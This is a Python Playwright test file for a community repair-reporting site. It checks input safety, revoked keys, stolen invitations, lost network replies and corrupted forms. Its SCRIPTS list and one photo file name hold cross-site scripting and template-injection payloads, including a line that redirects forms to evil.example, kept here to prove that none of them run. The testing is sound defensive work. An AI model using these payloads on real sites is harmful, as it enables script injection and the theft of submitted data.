"""What people with bad intentions or bad luck type, send and steal: nothing runs, nothing is lost, and each is told."""

from __future__ import annotations

from collections.abc import Iterator
from pathlib import Path

import pytest
from playwright.sync_api import Browser, Page, Route, expect

from linlian.community.identity.rules_keys import RevokeKey
from linlian.community.repairs.rules_steps import State
from linlian.community.repairs.tests.scene import found_scene
from tests.site.acting import fill, form_of, home_of, sign, told
from tests.site.people import arrived, enter, open_people_site
from tests.site.test_people import invitation, join
from tests.site.town import PHONE, Site, open_site, photograph

SCRIPTS = (
    "<script>globalThis.ran = 1</script>",
    "<img src=x onerror='globalThis.ran = 1'>",
    '"><svg onload=globalThis.ran=1>',
    "'-globalThis.ran=1-'",
    "{{ 7 * 7 }} {% raw %} ${globalThis.ran = 1}",
    "javascript:globalThis.ran=1",
    "<a href='javascript:globalThis.ran=1' autofocus onfocus=globalThis.ran=1>x</a>",
    "</textarea></form><base href=//evil.example><form action=//evil.example>",
)
LETTERS = (
    "مرحبا \u202e abc \u202c 水管漏水",
    "Z\u0351\u036b\u0343\u036a\u0302\u036b\u033d\u034f\u0334\u0319\u0324\u031e\u0349a\u0363lgo 水\u0301\u0301\u0301",
    "👨‍👩‍👧‍👦 🏳️‍🌈 \u200b\u200d\ufeff end",
    "𠀀𠮷 e\u0301 = é",
)


@pytest.fixture
def people(tmp_path: Path, browser: Browser) -> Iterator[Site]:
    with open_people_site(tmp_path, browser) as opened:
        yield opened
        assert opened.faults == []


@pytest.fixture
def asked(tmp_path: Path, browser: Browser) -> Iterator[tuple[Site, bytes]]:
    """A site with a repair that waits for Anna's yes."""
    scene = found_scene()
    case = scene.in_state(State.DONE)
    with open_site(tmp_path, browser, scene) as opened:
        yield opened, case
        assert opened.faults == []


@pytest.mark.timeout(150)
@pytest.mark.parametrize("text", ["\n".join(SCRIPTS), "\n".join(LETTERS)], ids=["scripts", "letters"])
def test_whatever_is_typed_is_shown_as_it_was_typed_and_does_nothing(people: Site, tmp_path: Path, text: str) -> None:
    page = enter(people, "anna", PHONE, "zh-CN")
    photo = photograph(tmp_path / "<img src=x onerror='globalThis.ran=1'>.png")
    page.goto(f"{people.url}/report")
    fill(page, "repairs.report_repair", words=text)
    page.reload()  # the draft comes back
    expect(page.locator("[name=words]")).to_have_value(text)
    form = fill(
        page, "repairs.report_repair", place=home_of(page), category="water.leak", words=text, photos=str(photo)
    )
    form.locator("button[type=submit]").click()
    expect(page.locator("dialog[open] dd", has_text=text.splitlines()[0])).to_be_visible()
    expect(page.locator("dialog[open] dd", has_text=photo.name)).to_be_visible()
    with page.expect_navigation(url="**/repairs/*"):
        page.locator("dialog[open] button[value=yes]").click()
    page.goto(f"{page.url}/sealed")
    form = page.locator("form[data-command='openings.open_content']").first
    form.locator("[name=contents]").first.check()
    form.locator("[name=purpose]").first.check()
    with page.expect_navigation(url="**/openings/*"):
        sign(page, form)
    words = page.locator("[data-content] .words")
    expect(words).to_be_visible()
    assert words.evaluate("words => words.textContent") == text
    assert page.evaluate("document.documentElement.scrollWidth") <= PHONE["width"]
    assert page.evaluate("globalThis.ran") is None
    assert page.locator("base, main script, main svg[onload], main img[onerror]").count() == 0


def test_a_key_that_was_revoked_meanwhile_signs_nothing_and_the_way_back_is_told(asked: tuple[Site, bytes]) -> None:
    site, case = asked
    page = site.enter("anna")
    page.goto(f"{site.url}/repairs/{case.hex()}")
    key = page.locator("html").get_attribute("data-key") or ""
    assert site.community.caller("anna").do(RevokeKey(key=bytes.fromhex(key))).status_code == 201
    form = form_of(page, "repairs.confirm_repair")
    sign(page, form)
    expect(told(form)).to_contain_text("web.session_ended")
    expect(told(form).locator("a")).to_have_attribute("href", f"/enter?then=%2Frepairs%2F{case.hex()}")
    page.goto(f"{site.url}/repairs/{case.hex()}")
    expect(page.locator("form[data-command='repairs.confirm_repair']")).to_have_count(0)
    site.community.app.state.desk.sessions._sessions.clear()
    page.goto(f"{site.url}/home")
    expect(page.locator("main a[href^='/enter']").first).to_be_visible()


def test_whoever_finds_a_stolen_invitation_used_is_told_and_the_inviter_sees_who_came(people: Site) -> None:
    helper = enter(people, "helper", PHONE, "zh-CN")
    helper.goto(f"{people.url}/household")
    helper.locator("details:has(form[data-invites]) > summary").click()
    form = helper.locator("form[data-invites]")
    form.locator("[name=rights][value=report]").check()
    form.locator("button[type=submit]").click()
    helper.locator("dialog[open] button[value=yes]").click()
    link = invitation(helper)
    thief = join(people, link)
    arrived(thief)
    for _ in range(2):
        owner = join(people, link)
        expect(owner.locator("#told .message.no")).to_be_visible()
        assert owner.locator("#told .message.no").inner_text().strip()
    thief_account = thief.locator("html").get_attribute("data-account") or ""
    helper.goto(f"{people.url}/household")
    end = helper.locator(f"form[data-command='places.end_occupancy']:has(input[value='{thief_account}'])")
    assert end.count() == 1, "who invited can send away who came"
    end.locator("xpath=ancestor::details").locator("summary").click()
    with helper.expect_navigation():
        sign(helper, end)
    thief.goto(f"{people.url}/report")
    assert thief.locator("form [name=place] option[value]:not([value=''])").count() == 0


def lose_the_answer(page: Page) -> None:
    """What is handed in arrives, and nobody hears that it did."""

    def once(route: Route) -> None:
        route.fetch()
        route.abort()

    page.route("**/api/v1/transactions", once, times=1)


@pytest.mark.timeout(90)
def test_a_network_lost_between_signing_and_the_answer_repeats_nothing(asked: tuple[Site, bytes]) -> None:
    site, case = asked
    page = site.enter("anna")
    page.goto(f"{site.url}/repairs/{case.hex()}")
    lose_the_answer(page)
    form = form_of(page, "repairs.confirm_repair")
    sign(page, form)
    expect(page.locator("#outbox")).to_contain_text("1")
    expect(page.locator("#outbox .yes")).to_be_visible(timeout=30_000)
    rows = site.community.caller("anna").get("/api/v1/repairs/timeline", case_id=case).json()["rows"]
    assert [row["type"] for row in rows].count("repairs.repair_confirmed") == 1


def test_a_network_lost_while_photographs_are_sealed_leaves_the_form_as_it_is(site: Site, tmp_path: Path) -> None:
    page = site.enter("anna")
    page.goto(f"{site.url}/report")
    photos = [str(photograph(tmp_path / f"{number}.png")) for number in range(3)]
    form = fill(page, "repairs.report_repair", place=home_of(page), category="water.leak", words="水管漏水")
    form.locator("[name=photos]").set_input_files(photos)
    asked = []

    def second(route: Route) -> None:
        asked.append(route)
        route.abort() if len(asked) == 3 else route.continue_()

    page.route("**/api/v1/contents", second)
    height = site.community.node.ledger.head.height
    sign(page, form)
    expect(told(form)).to_contain_text("site.no_answer")
    assert site.community.node.ledger.head.height == height
    expect(form.locator("[name=words]")).to_have_value("水管漏水")
    with page.expect_navigation(url="**/repairs/*"):
        sign(page, form)


WRONG = """form => {
    form.noValidate = true;
    let spoiled = 0;
    for (const control of form.querySelectorAll("[name][data-kind]")) {
        if (control.type === "file") continue;
        if (control instanceof HTMLSelectElement) {
            control.append(new Option("?", "zz"));
            control.value = "zz";
        } else if (["radio", "checkbox"].includes(control.type)) {
            control.value = "<b>";
            control.checked = true;
        } else if (control.type === "datetime-local") control.value = "1970-01-01T00:00";
        else if (control.type === "number") control.value = "-99999999";
        else if (control.dataset.kind === "bytes") control.value = "zz";
        else if (control.type !== "hidden") control.value = "\\u0000<b>".repeat(50);
        spoiled += 1;
    }
    return spoiled;
}"""


@pytest.mark.timeout(180)
def test_a_form_with_every_field_wrong_is_refused_in_words_and_stays(asked: tuple[Site, bytes]) -> None:
    site, case = asked
    forms = 0
    for name, paths in (("anna", ("/report", f"/repairs/{case.hex()}")), ("desk", ("/desk",))):
        page = site.enter(name)
        for path in paths:
            page.goto(f"{site.url}{path}")
            for command in page.locator("form[data-command]").evaluate_all("all => all.map(f => f.dataset.command)"):
                form = form_of(page, command).first
                if form.evaluate(WRONG) == 0:
                    continue
                height = site.community.node.ledger.head.height
                form.locator("button[type=submit]").first.evaluate("button => button.click()")
                sheet = page.locator("dialog[open]")
                expect(sheet.or_(told(form)).first).to_be_visible()
                if sheet.count():
                    sheet.locator("button[value=yes]").click()
                expect(form.locator(".told.no"), f"{path} {command}").to_be_visible()
                assert form.locator(".told.no p").first.inner_text().strip()
                assert site.community.node.ledger.head.height == height, f"{path} {command}"
                forms += 1
                page.goto(f"{site.url}{path}")
    assert forms >= 3
